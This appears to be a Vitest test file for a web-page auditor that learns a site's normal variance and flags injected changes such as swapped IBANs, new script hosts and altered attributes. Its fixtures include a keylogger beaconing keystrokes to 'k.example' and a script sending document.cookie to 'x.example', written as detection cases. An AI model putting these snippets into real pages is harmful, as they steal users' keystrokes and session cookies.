import { describe, expect, it } from 'vitest';
import { codeTokens, skeletonOf } from '../../../auditor/compare/code-template.js';
import { extractFeatures, type DocumentContext } from '../../../auditor/compare/document.js';
import { changeFindings, diffFeatures, learn } from '../../../auditor/compare/features-diff.js';
import { exactUrl, generalizeUrl, matchesUrl, registrableDomain } from '../../../auditor/compare/url-template.js';

// Issue 15.3: every attribute, title and noscript compared; code never masked beyond its data
// tokens; hosts never masked. Each case: the origin's own variance passes, a careful edit does not.

const ctx: DocumentContext = { pageUrl: 'http://shop.example/', siteHosts: ['shop.example'] };
const page = (body: string, head = '') => `<!DOCTYPE html><html><head><title>Shop</title>${head}</head><body>${body}</body></html>`;
const diff = (origins: string[], node: string) => changeFindings(diffFeatures(learn(origins.map((h) => extractFeatures(h, ctx))), extractFeatures(node, ctx)));
const kinds = (origins: string[], node: string) => diff(origins, node).map((f) => `${f.kind}:${f.severity}`);

describe('every attribute, title and noscript', () => {
  const form = (iban: string, csrf: string) => page(`<form action="/pay" method="post"><input type="hidden" name="csrf" value="${csrf}"><input type="hidden" name="iban" value="${iban}"></form>`);
  it('passes a varying CSRF value, catches an IBAN swapped inside <input value>', () => {
    const origins = [form('DE44 5001 0517', 'a81f'), form('DE44 5001 0517', 'c93e')];
    expect(diff(origins, form('DE44 5001 0517', 'ffff'))).toEqual([]);
    expect(kinds(origins, form('GB29 NWBK 6016', 'ffff'))).toEqual(['attr_changed:high']);
  });

  it('catches data-* payloads, script type, meta content, title and noscript edits', () => {
    const base = (o: { data?: string; type?: string; meta?: string; title?: string; noscript?: string }) =>
      `<!DOCTYPE html><html><head><title>${o.title ?? 'Shop'}</title><meta name="description" content="${o.meta ?? 'Furniture'}"></head><body>`
      + `<div class="banner" data-message="${o.data ?? 'Welcome'}"></div><script type="${o.type ?? 'application/json'}" id="state">{"a":1}</script>`
      + `<noscript>${o.noscript ?? '<p>Please enable scripts</p>'}</noscript></body></html>`;
    const origins = [base({}), base({})];
    expect(diff(origins, base({}))).toEqual([]);
    expect(kinds(origins, base({ data: 'Pay to GB29 NWBK' }))).toEqual(['attr_changed:high']);
    expect(kinds(origins, base({ type: 'text/javascript' }))).toEqual(['attr_changed:high']);
    expect(kinds(origins, base({ meta: 'Cheap pills' }))).toEqual(['attr_changed:high']);
    expect(kinds(origins, base({ title: 'Login required' }))).toEqual(['text_changed:medium']);
    expect(kinds(origins, base({ noscript: '<img src="https://evil.example/p.gif">' }))).toEqual(['noscript_changed:high']);
  });
});

describe('code is never masked beyond its data tokens', () => {
  const state = (items: number[], extra = '') => page(`<script>window.__STATE__ = ${JSON.stringify({ user: null, items: items.map((id) => ({ id, name: `item ${id}` })), iban: 'DE44 5001' })};${extra}</script>`);
  const origins = [state([1, 2]), state([7]), state([3, 4, 5])];

  it('a state script whose JSON varies in length still passes with other data', () => {
    expect(diff(origins, state([9, 10, 11, 12]))).toEqual([]);
  });

  it('a keylogger appended to that varying state script is a finding', () => {
    const f = diff(origins, state([9], "document.addEventListener('keydown',function(e){new Image().src='//k.example/?'+e.key})"));
    expect(f.map((x) => x.kind)).toEqual(['script_changed']);
    expect(f[0]?.severity).toBe('high');
  });

  it('a stable data token swapped inside a varying script is a finding', () => {
    const swapped = page(`<script>window.__STATE__ = ${JSON.stringify({ user: null, items: [{ id: 2, name: 'item 2' }], iban: 'GB29 NWBK' })};</script>`);
    expect(diff(origins, swapped).map((x) => x.kind)).toEqual(['script_changed']);
  });

  it('the skeleton drops data and data punctuation only', () => {
    expect(skeletonOf(codeTokens('var a = {"x": [1, 2, "y"]}; f(a, `t${b}`)'))).toBe('var a = ; f ( a `t${b}` )');
  });
});

describe('hosts are never masked', () => {
  const ad = (host: string, ord: string) => page(`<script src="https://${host}/tag/js/gpt.js;sz=300x250;ord=${ord}?"></script><img src="https://px.analytics.example/collect?cid=${ord}&v=2">`);
  const origins = [ad('ads1.adnet.example', '9711743630123970'), ad('ads2.adnet.example', '1837461023'), ad('ads1.adnet.example', '55512')];

  it('a random cache-buster and a rotating shard of the same ad network pass', () => {
    expect(diff(origins, ad('ads3.adnet.example', '4242424242'))).toEqual([]);
  });

  it('a new host in the same place is a finding, even with the same path', () => {
    expect(kinds(origins, ad('ads1.evil.example', '4242'))).toEqual(['script_changed:critical']);
  });

  it('a query parameter the origin never sends is a finding', () => {
    const extra = page(`<script src="https://ads1.adnet.example/tag/js/gpt.js;sz=300x250;ord=1?"></script><img src="https://px.analytics.example/collect?cid=1&v=2&exfil=cookie">`);
    expect(kinds(origins, extra)).toEqual(['resource_changed:high']);
  });

  it('URL templates: hosts listed, domains licensed only by the origin rotating them', () => {
    const one = generalizeUrl(exactUrl('https://a.cdn.example/x.js?v=1'), 'https://a.cdn.example/x.js?v=2');
    expect(matchesUrl(one, 'https://a.cdn.example/x.js?v=3')).toBe(true);
    expect(matchesUrl(one, 'https://b.cdn.example/x.js?v=3')).toBe(false);
    const rotating = generalizeUrl(one, 'https://b.cdn.example/x.js?v=4');
    expect(matchesUrl(rotating, 'https://c.cdn.example/x.js?v=5')).toBe(true);
    expect(matchesUrl(rotating, 'https://c.cdn.example/y.js?v=5')).toBe(false);
    expect(registrableDomain('https://ads.shop.co.uk')).toBe('shop.co.uk');
  });
});

describe('places that come and go', () => {
  it('a varying number of ad slots does not license a new script', () => {
    const slots = (n: number, extra = '') => page(`${Array.from({ length: n }, (_, i) => `<div class="slot"><script>adSlot(${i})</script></div>`).join('')}${extra}`);
    const origins = [slots(1), slots(3), slots(2)];
    expect(diff(origins, slots(3))).toEqual([]);
    const f = diff(origins, page('<div class="slot"><script>adSlot(0)</script></div><div class="slot"><script>adSlot(1)</script></div><div class="slot"><script>fetch("//x.example/"+document.cookie)</script></div>'));
    expect(f.map((x) => x.kind)).toEqual(['script_added']);
  });
});

describe('pools across audits', () => {
  it('values of one place that rotate over sibling shards merge into one template that licenses the domain', async () => {
    const { addToPool, matchesValue } = await import('../../../auditor/compare/value-template.js');
    let pool = addToPool([], 'https://ads-a.adserve.example/frame?slot=top&cb=1', 'url');
    pool = addToPool(pool, 'https://ads-b.adserve.example/frame?slot=top&cb=2', 'url');
    expect(pool).toHaveLength(1);
    expect(pool.some((t) => matchesValue(t, 'https://ads-c.adserve.example/frame?slot=top&cb=3'))).toBe(true);
    expect(pool.some((t) => matchesValue(t, 'https://ads.evil.example/frame?slot=top&cb=3'))).toBe(false);
  });
});
